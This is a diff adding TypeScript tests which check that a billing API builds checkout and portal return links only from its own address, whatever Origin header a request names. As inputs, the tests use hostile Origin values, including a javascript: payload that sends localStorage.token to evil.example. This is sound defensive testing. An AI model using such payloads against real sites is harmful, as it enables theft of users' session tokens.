@@ -84,6 +84,37 @@ describe('checkout on the local payment page', () => {
   })
 })
 
+describe('return addresses', () => {
+  const checkoutWith = (token: string, origin: string, productId = 'mini') =>
+    api.call('POST', '/api/billing/create-checkout', { body: { productId }, token, headers: { origin } })
+
+  it("come from the app's own address, whatever Origin the request names", async () => {
+    const f = await signUp(api)
+    for (const origin of ['null', 'javascript:alert(document.domain)//', 'https://evil.example', '']) {
+      const checkout = await checkoutWith(f.token, origin)
+      expect(checkout.status, origin).toBe(200)
+      expect(checkout.body.url, origin).toMatch(new RegExp(`^${base}/local/checkout/`))
+      const cancelled = await fetch(`${checkout.body.url}/cancel`, { method: 'POST', redirect: 'manual' })
+      expect(cancelled.headers.get('location'), origin).toBe(`${base}/checkout/cancel`)
+    }
+  })
+
+  it('never put a javascript: link on the billing portal page', async () => {
+    const f = await signUp(api)
+    const checkout = await checkoutWith(f.token, base, 'starter')
+    await fetch(`${checkout.body.url}/pay`, { method: 'POST', redirect: 'manual' })
+    const portal = await api.call('GET', '/api/billing/portal', {
+      token: f.token,
+      headers: { origin: 'javascript:fetch(`//evil.example/`+localStorage.token)//' },
+    })
+    expect(portal.status).toBe(200)
+    expect(portal.body.url).toMatch(new RegExp(`^${base}/local/portal/`))
+    const page = await (await fetch(portal.body.url)).text()
+    expect(page).not.toContain('javascript:')
+    expect(page).toContain(`href="${base}/profile"`)
+  })
+})
+
 describe('the Stripe webhook', () => {
   it('refuses a bad signature with 400 and changes nothing', async () => {
     const f = await signUp(api)
